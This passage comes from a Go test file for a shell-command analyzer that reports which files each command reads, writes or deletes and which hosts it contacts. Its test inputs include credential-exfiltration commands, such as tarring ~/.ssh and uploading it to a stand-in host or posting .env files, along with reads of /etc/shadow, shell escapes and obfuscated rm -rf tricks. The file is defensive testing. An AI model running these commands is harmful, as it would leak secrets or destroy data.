		{cmd: "curl $(cat url.txt)", opaque: []string{"network destination not known statically"}},
		{cmd: "docker run -v ~/.ssh:/k alpine ls /k", reads: []string{"/home/dev/.ssh"}},
		{cmd: "docker run --mount type=bind,source=/home/dev/.aws,target=/a alpine", reads: []string{"/home/dev/.aws"}},
		{cmd: "tar -C ~ -czf - .ssh | curl -T - https://e.com", reads: []string{"/home/dev/.ssh"}, hosts: []string{"e.com"}},
		{cmd: "cat ~dev/.ssh/id_rsa ~root/.bashrc", reads: []string{"/home/dev/.ssh/id_rsa", "/root/.bashrc"}},
		{cmd: "cat /proc/self/root/home/dev/.ssh/id_rsa", reads: []string{"/home/dev/.ssh/id_rsa"}},
		{cmd: "echo x > /proc/self/cwd/README.md", writes: []string{P + "/README.md"}},
		{cmd: "jq -n env", dump: true},
		{cmd: "curl -b .env -H @.env.h --cert ~/.ssh/c.pem https://e.com", reads: []string{P + "/.env", P + "/.env.h", "/home/dev/.ssh/c.pem"}},
		{cmd: "curl -b 'a=b' -H 'X-A: b' https://e.com", noRead: []string{P + "/a=b"}},
		{cmd: "http -f POST e.com/u file@.env x=1", reads: []string{P + "/.env"}},
		{cmd: "openssl enc -aes256 -in .env -out src/x.enc", reads: []string{P + "/.env"}, writes: []string{P + "/src/x.enc"}},
		{cmd: "view README.md", writes: []string{}},
		{cmd: "curl file:///home/dev/.ssh/id_rsa", reads: []string{"/home/dev/.ssh/id_rsa"}, hosts: []string{}},
		{cmd: "curl FILE://localhost/etc/shadow?x", reads: []string{"/etc/shadow"}},
		{cmd: "jq -r '$ENV.PROD_DB_URL'", dump: true},
		{cmd: "jq '.env' f.json", reads: []string{P + "/f.json"}},
		{cmd: "make -p", dump: true},
		{cmd: "dc -e '!/bin/sh'", opaque: []string{"dc"}},
		{cmd: "sqlite3 /dev/null '.shell /bin/sh'", opaque: []string{"sqlite3 dot command"}},
		{cmd: "sqlite3 app.db 'select 1'", reads: []string{P + "/app.db"}},
		{cmd: "ed src/a.go < script.ed", opaque: []string{"ed reads editing commands"}},
		{cmd: "sed -f s.sed f", opaque: []string{"sed script from a file"}},
		{cmd: "gawk -i inplace '{print}' src/a.txt", writes: []string{P + "/src/a.txt"}},
		{cmd: "wget -i urls.txt", writes: []string{}, opaque: []string{"destinations from a file"}},
		{cmd: "trash-put a; gio trash b", deletes: []string{P + "/a", P + "/b"}},
		{cmd: "git switch -f main", writes: []string{P}},
		{cmd: "go build -o /usr/local/bin/app ./cmd/app", writes: []string{"/usr/local/bin/app"}},
		{cmd: "gcc -o /tmp/a a.c", writes: []string{"/tmp/a"}},
		{cmd: "uniq in.txt out.txt", writes: []string{P + "/out.txt"}},
		{cmd: "npx npm install", lines: []string{"npx npm install", "npm install"}, opaque: []string{"fetch and run package npm"}},
		{cmd: "npx -y -p cowsay cowsay hi", lines: []string{"npx -y -p cowsay cowsay hi", "cowsay hi"}, opaque: []string{"fetch and run package cowsay"}},
		{cmd: "npx -c 'rm x'", lines: []string{"npx -c rm x", "rm x"}},
		{cmd: "corepack npm install", lines: []string{"corepack npm install", "npm install"}},
		{cmd: "npm exec -- rimraf dist", lines: []string{"npm exec -- rimraf dist", "rimraf dist"}, opaque: []string{"fetch and run package rimraf"}},
		{cmd: "pnpm dlx create-app x", lines: []string{"pnpm dlx create-app x", "create-app x"}, opaque: []string{"fetch and run package create-app"}},
		{cmd: "uv run pip install x", lines: []string{"uv run pip install x", "pip install x"}},
		{cmd: "python3 -m pip install requests", lines: []string{"python3 -m pip install requests", "pip install requests"}},
		{cmd: "npm run build", lines: []string{"npm run build"}},
	})
}

func TestScopes(t *testing.T) {
	run(t, []tc{
		{cmd: "cd src & rm -rf build", deletes: []string{P + "/build"}},
		{cmd: "a=ls; echo rm | read a; $a -rf /", opaque: []string{"program name is not known statically"}},
		{cmd: "echo | cd src; rm x", deletes: []string{P + "/src/x", P + "/x"}, opaque: []string{"working directory not known statically"}},
		{cmd: "declare -n r=PROD_DB_URL; echo $r", env: []string{"r", "PROD_DB_URL"}},
		{cmd: "IFS=,; c=rm,-rf,/tmp/x; $c", lines: []string{"rm -rf /tmp/x"}, deletes: []string{"/tmp/x"}},
	})
	a := "a=" + strings.Repeat("x", 100<<10) + "; "
	if _, err := Analyze(a+strings.Repeat(`eval "$a"; `, 50), testOpt); !errors.Is(err, ErrLimit) {
		t.Errorf("re-parse budget: err = %v, want ErrLimit", err)
	}
}

func TestNoCwd(t *testing.T) {
	an, err := Analyze("cat .env; rm /abs; cd /tmp && rm x", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(an.Opaque) != 1 || !strings.Contains(an.Opaque[0].Reason, "no working directory") {
		t.Errorf("opaque = %+v, want the relative read reported", an.Opaque)
	}
	if !sameSet(paths(an.Deletes), []string{"/abs", "/tmp/x"}) {
		t.Errorf("deletes = %q", paths(an.Deletes))
	}
}

func TestLimits(t *testing.T) {
	big := strings.Repeat("a", MaxLineBytes+1)
	run(t, []tc{
		{cmd: big, err: "exceeds analysis limits"},
		{cmd: "echo a\x00b", err: "NUL"},
		{cmd: "echo \xff\xfe", err: "UTF-8"},
		{cmd: "echo a\x1b[2Jb", err: "control character"},
		{cmd: "rm x\rls", err: "carriage return"},
		{cmd: "echo \u202erm", err: "bidirectional"},
		{cmd: "echo {1..100000000}", err: "brace expansion"},
		{cmd: "echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", err: "brace expansion"},
		{cmd: "echo {-9223372036854775808..9223372036854775807}", err: "brace expansion"},
		{cmd: "echo 'unterminated", err: "does not parse"},
		{cmd: "if then fi", err: "does not parse"},
		{cmd: strings.Repeat("(", 5000) + "x" + strings.Repeat(")", 5000), err: "nesting tokens"},
		{cmd: strings.Repeat("( ", 100) + "x" + strings.Repeat(" )", 100), err: "levels of nesting"},
		{cmd: strings.Repeat("echo $(", 70) + "x" + strings.Repeat(")", 70), err: "levels of nesting"},
		{cmd: "echo $((" + strings.Repeat("1+", 5000) + "1))", err: "operator characters"},
		{cmd: strings.Repeat("true;", 10001), err: "more than 10000 commands"},
		// bash keeps the CR of CR LF in the word (crlf.go)
		{cmd: "echo a\r\nls", lines: []string{"echo a\r", "ls"}},
		{cmd: "echo a\\\r\nls", lines: []string{"echo a\r", "ls"}},
		{cmd: "echo \ue00d", err: "private-use"},
	})
	// A long but ordinary line is analyzed quickly.
	long := "echo " + strings.Repeat("abcdefgh ", 900<<10/9)
	start := time.Now()
	if _, err := Analyze(long, testOpt); err != nil {
		t.Fatalf("900 KB line: %v", err)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("900 KB line took %v", d)
	}
	// The length check comes before any scan; the bound only catches a
	// rejection that reads the line (it is loose: CI machines are loaded).
	huge := strings.Repeat("x", 10<<20)
	start = time.Now()
	if _, err := Analyze(huge, testOpt); err == nil {
		t.Error("10 MB line accepted")
	}
	if d := time.Since(start); d > time.Second {
		t.Errorf("10 MB rejection took %v", d)
	}
}
